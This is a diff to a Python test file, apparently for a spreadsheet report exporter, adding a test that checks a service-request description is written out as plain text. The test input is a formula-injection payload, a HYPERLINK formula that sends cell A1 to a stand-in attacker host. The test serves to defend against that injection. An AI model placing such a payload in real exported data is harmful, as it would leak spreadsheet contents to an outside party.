@@ -151,3 +151,12 @@ def test_monthly_cost_workbook(tenant, costs):
     injected = next(r for r in items if r[4].value == "=1+2")
     assert injected[4].data_type == "s" and injected[5].value == "idle-01"
     assert built.data_summary["total_amount"] == 8_500_000 and built.data_summary["budget_status"] == "WARNING"
+
+
+def test_a_hyperlink_formula_in_a_description_comes_out_as_text(tenant):
+    formula = '=HYPERLINK("http://evil.example/steal?d="&A1, "자세히 보기")'
+    sr = add_sr(tenant, "2026-03-20 10:00", description=formula)
+    _built, book = build(tenant, "weekly_ops")
+    row = next(r for r in book["SR 목록"].iter_rows(min_row=2) if r[0].value == sr.code)
+    assert row[11].value == formula and row[11].data_type == "s"  # the description, stored as text
+    assert not any(cell.data_type == "f" for sheet in book for line in sheet.iter_rows() for cell in line)  # no formula anywhere
